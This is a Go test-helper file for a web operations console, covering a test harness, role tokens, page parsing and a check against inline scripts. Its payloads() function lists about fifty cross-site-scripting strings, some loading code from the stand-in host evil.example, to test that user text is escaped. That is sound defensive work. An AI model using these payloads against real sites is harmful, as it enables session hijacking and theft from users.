package console_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"golang.org/x/net/html"

	"github.com/tidings/tidings/internal/postgres"
	"github.com/tidings/tidings/internal/testkit"
	"github.com/tidings/tidings/internal/tokens"
	"github.com/tidings/tidings/kinds/catalog"
	"github.com/tidings/tidings/ops/console"
	"github.com/tidings/tidings/projections"
	"github.com/tidings/tidings/projections/followercounts"
	"github.com/tidings/tidings/projections/history"
	"github.com/tidings/tidings/projections/threadcache"
)

// tenant is the tenant of the harness's tenant tokens.
const tenant = 7

// harness is a console with its own database and JetStream server, and a token for each role.
type harness struct {
	db   *testkit.DB
	nats *testkit.Broker
	pool *pgxpool.Pool // acts as the system role
	conn *nats.Conn
	js   jetstream.JetStream
	url  string // http://HOST:PORT

	console *console.Console
	stop    context.CancelFunc // ends Run
	streams atomic.Int64       // live pages that the server sends now

	Tokens struct{ Reader, Moderator, Admin, TenantReader, TenantModerator, TenantAdmin string }
}

// start starts a console. change may change its configuration.
func start(t *testing.T, change ...func(*console.Config, *console.Deps)) *harness {
	t.Helper()
	return startOn(t, testkit.Postgres(t), testkit.NATS(t), change...)
}

// traced makes the console use a pool whose statements the tracer sees, for both of its databases.
func traced(t *testing.T, tracer pgx.QueryTracer) func(*console.Config, *console.Deps) {
	return func(_ *console.Config, d *console.Deps) {
		cfg := d.Truth.Config()
		cfg.ConnConfig.Tracer = tracer
		pool, err := pgxpool.NewWithConfig(t.Context(), cfg)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(pool.Close)
		d.Truth, d.Projections = pool, pool
	}
}

func startOn(t *testing.T, db *testkit.DB, nats *testkit.Broker, change ...func(*console.Config, *console.Deps)) *harness {
	t.Helper()
	h := &harness{db: db, nats: nats}
	h.pool = h.db.Pool(t, postgres.RoleSystem)
	var err error
	h.conn = h.nats.Connect(t)
	if h.js, err = jetstream.New(h.conn); err != nil {
		t.Fatal(err)
	}
	for _, who := range []struct {
		token  *string
		tenant int64
		name   string
		roles  []string
	}{
		{&h.Tokens.Reader, 0, "rea", []string{"read"}}, {&h.Tokens.Moderator, 0, "mo", []string{"read", "moderate"}},
		{&h.Tokens.Admin, 0, "ada", []string{"read", "moderate", "admin"}},
		{&h.Tokens.TenantReader, tenant, "rita", []string{"read"}},
		{&h.Tokens.TenantModerator, tenant, "max", []string{"read", "moderate"}},
		{&h.Tokens.TenantAdmin, tenant, "amy", []string{"read", "moderate", "admin"}},
	} {
		*who.token = tokens.New()
		if err := tokens.Ensure(t.Context(), h.pool, who.tenant, who.name, *who.token, who.roles); err != nil {
			t.Fatal(err)
		}
	}
	catalog := catalog.New(h.pool, catalog.Truth, testkit.Logger(t))
	if err := catalog.Load(t.Context()); err != nil {
		t.Fatal(err)
	}
	cfg, deps := console.Config{On: true}, console.Deps{Truth: h.pool, Projections: h.pool, NATS: h.conn, JetStream: h.js,
		Broker: h.nats.Config(), Kinds: catalog, Fleet: []projections.Projection{followercounts.New(catalog.Now),
			threadcache.New(catalog.Now), history.New(catalog.Now)},
		OwnerURL: h.db.URL, Postgres: postgres.Config{MaxConns: console.Conns, ConnectTimeout: 5 * time.Second,
			StatementTimeout: time.Minute}, Keys: [][]byte{bytes.Repeat([]byte{1}, 32)}, Log: testkit.Logger(t)}
	for _, c := range change {
		c(&cfg, &deps)
	}
	c, err := console.New(cfg, deps)
	if err != nil {
		t.Fatal(err)
	}
	h.console = c
	ctx, stop := context.WithCancel(context.WithoutCancel(t.Context()))
	h.stop = stop
	ended := make(chan error, 1)
	go func() { ended <- c.Run(ctx) }()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/console/live/") {
			h.streams.Add(1)
			defer h.streams.Add(-1)
		}
		c.Front(http.NotFoundHandler()).ServeHTTP(w, r)
	}))
	t.Cleanup(func() {
		stop()
		if err := <-ended; err != nil {
			t.Errorf("Run: %v", err)
		}
		srv.Close()
	})
	h.url = srv.URL
	return h
}

// reader is a client of the console without a browser.
type reader struct {
	t      *testing.T
	h      *harness
	client *http.Client
}

// signIn opens a session with the token.
func (h *harness) signIn(t *testing.T, token string) *reader {
	t.Helper()
	r := h.visitor(t)
	if res := r.post("/console/sign-in", url.Values{"token": {token}}); res.status != http.StatusOK || res.path != "/console/" {
		t.Fatalf("sign in: status %d at %s: %s", res.status, res.path, res.text())
	}
	return r
}

// visitor returns a reader without a session.
func (h *harness) visitor(t *testing.T) *reader {
	t.Helper()
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	transport := &http.Transport{}
	t.Cleanup(transport.CloseIdleConnections)
	return &reader{t, h, &http.Client{Jar: jar, Transport: transport}}
}

// answer is the answer to a request.
type answer struct {
	t      *testing.T
	status int
	path   string // with the query, after redirects
	header http.Header
	body   string
	doc    *html.Node
}

func (r *reader) get(path string) *answer {
	r.t.Helper()
	req, err := http.NewRequestWithContext(r.t.Context(), http.MethodGet, r.h.url+path, nil)
	if err != nil {
		r.t.Fatal(err)
	}
	return r.do(req)
}

func (r *reader) post(path string, form url.Values) *answer {
	r.t.Helper()
	req, err := http.NewRequestWithContext(r.t.Context(), http.MethodPost, r.h.url+path, strings.NewReader(form.Encode()))
	if err != nil {
		r.t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	return r.do(req)
}

func (r *reader) do(req *http.Request) *answer {
	r.t.Helper()
	res, err := r.client.Do(req)
	if err != nil {
		r.t.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		r.t.Fatal(err)
	}
	doc, err := html.Parse(bytes.NewReader(b))
	if err != nil {
		r.t.Fatal(err)
	}
	return &answer{r.t, res.StatusCode, res.Request.URL.RequestURI(), res.Header, string(b), doc}
}

// page opens a page. It fails the test if the page is missing or has inline code.
func page(t *testing.T, r *reader, path string) *answer {
	t.Helper()
	a := r.get(path)
	if a.status != http.StatusOK {
		t.Fatalf("%s: status %d: %s", path, a.status, a.text())
	}
	for n := range a.doc.Descendants() {
		for _, at := range n.Attr {
			if at.Key == "style" || strings.HasPrefix(at.Key, "on") ||
				strings.HasPrefix(strings.TrimSpace(strings.ToLower(at.Val)), "javascript:") {
				t.Errorf("%s: <%s> has the attribute %s=%q, which the policy forbids", path, n.Data, at.Key, at.Val)
			}
		}
		if n.Data == "style" || n.Data == "script" && n.FirstChild != nil {
			t.Errorf("%s: <%s> has text, which the policy forbids", path, n.Data)
		}
	}
	return a
}

var spaces = regexp.MustCompile(`\s+`)

// text returns the text of the page's main part on one line.
func (a *answer) text() string {
	var b strings.Builder
	for n := range a.first("main").Descendants() {
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
			b.WriteByte(' ')
		}
	}
	return strings.TrimSpace(spaces.ReplaceAllString(b.String(), " "))
}

// first returns the first element with the tag, or the document if there is none.
func (a *answer) first(tag string) *html.Node {
	for n := range a.doc.Descendants() {
		if n.Type == html.ElementNode && n.Data == tag {
			return n
		}
	}
	return a.doc
}

// says fails the test unless the page shows each text.
func (a *answer) says(all ...string) *answer {
	a.t.Helper()
	text := a.text()
	for _, s := range all {
		if !strings.Contains(text, s) {
			a.t.Errorf("%s does not show %q: %.2000s", a.path, s, text)
		}
	}
	return a
}

// without fails the test if the page has one of the texts, even in its markup.
func (a *answer) without(none ...string) *answer {
	a.t.Helper()
	for _, s := range none {
		if strings.Contains(a.body, s) {
			a.t.Errorf("%s has %q", a.path, s)
		}
	}
	return a
}

func attr(n *html.Node, name string) string {
	for _, a := range n.Attr {
		if a.Key == name {
			return a.Val
		}
	}
	return ""
}

// link returns the target of the first link with the text. Without one it fails the test.
func (a *answer) link(text string) string {
	a.t.Helper()
	for n := range a.doc.Descendants() {
		if n.Type == html.ElementNode && n.Data == "a" && n.FirstChild != nil && strings.TrimSpace(n.FirstChild.Data) == text {
			return attr(n, "href")
		}
	}
	a.t.Fatalf("%s has no link %q: %.2000s", a.path, text, a.body)
	return ""
}

// form returns the input of the page's act form, with the given values (name, value, ...).
func (a *answer) form(pairs ...string) url.Values {
	in := url.Values{}
	for n := range a.first("main").Descendants() {
		switch {
		case n.Type != html.ElementNode || attr(n, "name") == "":
		case n.Data == "input" && attr(n, "type") == "checkbox":
			for _, at := range n.Attr {
				if at.Key == "checked" {
					in.Add(attr(n, "name"), attr(n, "value"))
				}
			}
		case attr(n, "name") == "confirm":
			in.Set("confirm", attr(n, "placeholder"))
		case n.Data == "input":
			in.Add(attr(n, "name"), attr(n, "value"))
		}
	}
	for i := 0; i+1 < len(pairs); i += 2 {
		in.Set(pairs[i], pairs[i+1])
	}
	return in
}

// begin opens an act's form by its link, confirms it, and returns the page of the outcome.
func (r *reader) begin(link string, pairs ...string) *answer {
	r.t.Helper()
	form := page(r.t, r, link)
	return r.post(strings.SplitN(link, "?", 2)[0], form.form(append([]string{"reason", "because the test says so"}, pairs...)...))
}

// act begins an act and returns its page when the act has ended.
func (r *reader) act(link string, pairs ...string) *answer {
	r.t.Helper()
	return r.ended(r.begin(link, pairs...))
}

// ended follows an act from its page until it has ended. The page comes before that if the act
// takes longer than actWait.
func (r *reader) ended(a *answer) *answer {
	r.t.Helper()
	testkit.Eventually(r.t, "the act to end", func() (bool, error) {
		ended := !strings.Contains(a.text(), "under way")
		if !ended {
			a = page(r.t, r, a.path)
		}
		return ended, nil
	})
	return a
}

// slow is the project's limit for one page.
const slow = time.Second

// quickPage opens a page, which must take less than slow. On a busy machine one of several times
// must.
func quickPage(t *testing.T, r *reader, path string) (a *answer) {
	t.Helper()
	testkit.Eventually(t, path+" is fast", func() (bool, error) {
		began := time.Now()
		a = page(t, r, path)
		took := time.Since(began)
		if took >= slow {
			return false, fmt.Errorf("it took %s", took)
		}
		t.Logf("%s took %s", path, took.Round(time.Millisecond))
		return true, nil
	})
	return a
}

// payloads returns texts that would run in a page that does not escape them. Tests of pages that
// show text of people use them (TestNothingThatPeopleWriteRuns). If one gets through, the page
// contains <i id=XN>, or a script sets window.XN.
func payloads() (all []string) {
	for i, p := range []string{
		`<script>window.XSS=1</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `"><script>window.XSS=1</script>`,
		`'><script>window.XSS=1</script>`, `</title><script>window.XSS=1</script>`,
		`</textarea><script>window.XSS=1</script>`, `</script><script>window.XSS=1</script>`, `<img src=x onerror=window.XSS=1>`,
		`"><img src=x onerror=window.XSS=1>`, `<svg onload=window.XSS=1>`,
		`<svg><script>window.XSS=1</script></svg>`, `<svg><animate onbegin=window.XSS=1 attributeName=x dur=1s>`,
		`<body onload=window.XSS=1>`, `<iframe src="javascript:window.parent.XSS=1"></iframe>`,
		`<iframe srcdoc="<script>parent.XSS=1</script>"></iframe>`,
		`<a href="javascript:window.XSS=1" id=a autofocus onfocus=window.XSS=1>x</a>`, `<input autofocus onfocus=window.XSS=1>`,
		`<select autofocus onfocus=window.XSS=1>`, `<textarea autofocus onfocus=window.XSS=1>`, `<details open ontoggle=window.XSS=1>`,
		`<video><source onerror=window.XSS=1></video>`, `<audio src=x onerror=window.XSS=1>`, `<object data="javascript:window.XSS=1">`,
		`<embed src="javascript:window.XSS=1">`, `<math><mi xlink:href="javascript:window.XSS=1">x</mi></math>`,
		`<form action="javascript:window.XSS=1"><button>x`, `<button formaction="javascript:window.XSS=1">x`,
		`<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import '//evil.example/x.css';</style>`,
		`<style>*{display:none}</style>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`,
		`" onmouseover="window.XSS=1" autofocus onfocus="window.XSS=1`, `' onfocus='window.XSS=1' autofocus='`,
		"` onfocus=window.XSS=1 autofocus `",
		`javascript:window.XSS=1`, `data:text/html,<script>parent.XSS=1</script>`, `{{.}}`, `{{template "layout" .}}`, `${window.XSS=1}`,
		`<!--><img src=x onerror=window.XSS=1>`, `<![CDATA[<script>window.XSS=1</script>]]>`, `&lt;script&gt;window.XSS=1&lt;/script&gt;`,
		`%3Cscript%3Ewindow.XSS=1%3C/script%3E`, "\u003cscript\u003ewindow.XSS=1\u003c/script\u003e",
		"<scr\tipt>window.XSS=1</scr\tipt>", `<img/src="x"/onerror=window.XSS=1>`,
		`<div hx-get="/console/audit" hx-trigger="load" hx-on:htmx:load="window.XSS=1">x</div>`,
		`<div data-hx-on:load="window.XSS=1" hx-trigger="load" hx-get="/console/tokens">x</div>`,
		`<div hx-sse:connect="/console/live/overview" hx-swap="innerHTML">x</div>`,
		`<template><script>window.XSS=1</script></template><script>window.XSS=1</script>`, "\u202e\u2066<script>window.XSS=1</script>",
	} {
		all = append(all, fmt.Sprintf("%d %s<i id=X%d>", i, p, i))
	}
	return all
}
